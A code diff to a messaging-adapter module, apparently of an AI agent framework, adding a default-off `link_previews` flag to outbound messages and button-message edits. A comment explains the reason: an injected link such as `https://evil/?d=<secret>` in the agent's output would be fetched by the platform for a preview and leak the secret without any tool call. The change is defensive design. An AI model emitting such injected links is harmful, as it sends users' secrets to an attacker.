@@ -126,6 +126,10 @@ class OutboundMessage:
     # buttons under the message; adapters without `capabilities.buttons` ignore them
     # (the text itself says how to answer)
     actions: tuple[Action, ...] = ()
+    # let the platform fetch the links in the text and show previews. Off unless the owner
+    # turned `channels.<name>.linkPreviews` on: a platform that fetches a link sends what
+    # the link carries (an injected `https://evil/?d=<secret>`) with no tool call at all
+    link_previews: bool = False
 
 
 @dataclass(frozen=True)
@@ -214,8 +218,17 @@ class ButtonChannel(Protocol):
     """What an adapter with `capabilities.buttons` adds: settling a message it sent with
     buttons (an approval answered or expired)."""
 
-    async def edit(self, account_id: str, peer: Peer, message_id: str, text: str) -> None:
-        """Replace the text of the bot's message `message_id` and remove its buttons."""
+    async def edit(
+        self,
+        account_id: str,
+        peer: Peer,
+        message_id: str,
+        text: str,
+        *,
+        link_previews: bool = False,
+    ) -> None:
+        """Replace the text of the bot's message `message_id` and remove its buttons;
+        `link_previews` as in `OutboundMessage`."""
         ...
 
 
